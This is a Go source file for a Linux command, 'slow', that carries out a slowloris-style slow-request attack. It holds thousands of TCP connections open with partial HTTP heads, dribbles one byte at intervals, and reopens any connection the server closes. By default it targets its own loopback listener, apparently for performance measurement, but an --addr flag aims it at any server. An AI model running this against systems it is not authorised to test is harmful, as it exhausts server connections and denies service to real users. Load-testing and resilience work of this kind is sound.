//go:build linux

// Command slow keeps connections open that never finish a request, as a
// slow-request attack does: each sends the beginning of a head, and then a byte
// of it now and then. What the server closes is opened again.
//
//	slow --addr 127.0.0.1:8080 --connections 5000 --every 1s
//
// Without an address the connections are to a listener of its own, which does no
// more than to close them in time: that shows what they cost the core on which
// this program runs, and so whoever measures from there.
//
// All are opened over one period of the pace, evenly within a millisecond, and stay so:
// what a server feels is their number, not their coming all at once. It prints a
// line when all are open, and ends with its standard input.
package main

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

const beginning = "GET /a HTTP/1.1\r\nHost: go.example.com\r\nUser-Agent: "

// leastSleep is for how long this program sleeps at least, so that its sleeping and
// waking takes little of the core that it shares with whoever measures. Those whose
// turn has come meanwhile, 5 of 5,000 in a second, have it one after the other.
const leastSleep = time.Millisecond

func main() {
	addr := flag.String("addr", "", "`address` of the server; none: its own")
	connections := flag.Int("connections", 5000, "`number` of connections")
	every := flag.Duration("every", time.Second, "`time` between two bytes of one")
	flag.Parse()
	to, err := target(*addr)
	if err != nil {
		fmt.Fprintln(os.Stderr, "slow:", err)
		os.Exit(1)
	}
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin)
		os.Exit(0)
	}()
	a := attack{to: to, fds: make([]int, *connections)}
	for i := range a.fds {
		a.fds[i] = -1
	}
	if err := a.run(*every); err != nil {
		fmt.Fprintln(os.Stderr, "slow:", err)
		os.Exit(1)
	}
}

// target is whom the connections are to.
func target(addr string) (to unix.SockaddrInet4, err error) {
	if addr == "" {
		return own()
	}
	tcp, err := net.ResolveTCPAddr("tcp4", addr)
	if err != nil {
		return to, err
	}
	return unix.SockaddrInet4{Port: tcp.Port, Addr: [4]byte(tcp.IP.To4())}, nil
}

// own is a listener that closes what it accepts after the time that servers have
// for a head.
func own() (to unix.SockaddrInet4, err error) {
	const headTimeout = 5 * time.Second
	type accepted struct {
		fd int
		at time.Time
	}
	to.Addr = [4]byte{127, 0, 0, 1}
	listener, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return to, os.NewSyscallError("socket", err)
	}
	if err := errors.Join(unix.Bind(listener, &to), unix.Listen(listener, 511)); err != nil {
		return to, fmt.Errorf("listen: %w", err)
	}
	name, err := unix.Getsockname(listener)
	if err != nil {
		return to, os.NewSyscallError("getsockname", err)
	}
	to.Port = name.(*unix.SockaddrInet4).Port
	open := make(chan accepted, 1<<16)
	go func() {
		for {
			fd, _, err := unix.Accept4(listener, unix.SOCK_CLOEXEC)
			if err != nil {
				fmt.Fprintln(os.Stderr, "slow: accept:", err)
				os.Exit(1)
			}
			open <- accepted{fd, time.Now()}
		}
	}()
	go func() {
		for c := range open {
			time.Sleep(time.Until(c.at.Add(headTimeout)))
			_ = unix.Close(c.fd)
		}
	}()
	return to, nil
}

// attack is the connections, in the order of their turns.
type attack struct {
	to  unix.SockaddrInet4
	fds []int // -1: closed
}

// run gives each connection its turn, again and again.
func (a *attack) run(every time.Duration) error {
	gap := every / time.Duration(len(a.fds))
	next := time.Now()
	for round := 0; ; round++ {
		for i := range a.fds {
			if wait := time.Until(next); wait > 0 {
				time.Sleep(max(wait, leastSleep))
			}
			next = next.Add(gap)
			if err := a.turn(i); err != nil {
				return err
			}
		}
		if round == 0 {
			fmt.Println("all are open")
		}
	}
}

// turn sends a byte, or opens the connection.
func (a *attack) turn(i int) error {
	if fd := a.fds[i]; fd >= 0 {
		if _, err := unix.Write(fd, []byte("x")); err == nil || errors.Is(err, unix.EAGAIN) {
			return nil
		}
		_ = unix.Close(fd)
		a.fds[i] = -1
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return os.NewSyscallError("socket", err)
	}
	a.fds[i] = fd
	if err := unix.Connect(fd, &a.to); err != nil { // over loopback it is there at once
		return os.NewSyscallError("connect", err)
	}
	_, err = unix.Write(fd, []byte(beginning))
	return os.NewSyscallError("write", err)
}
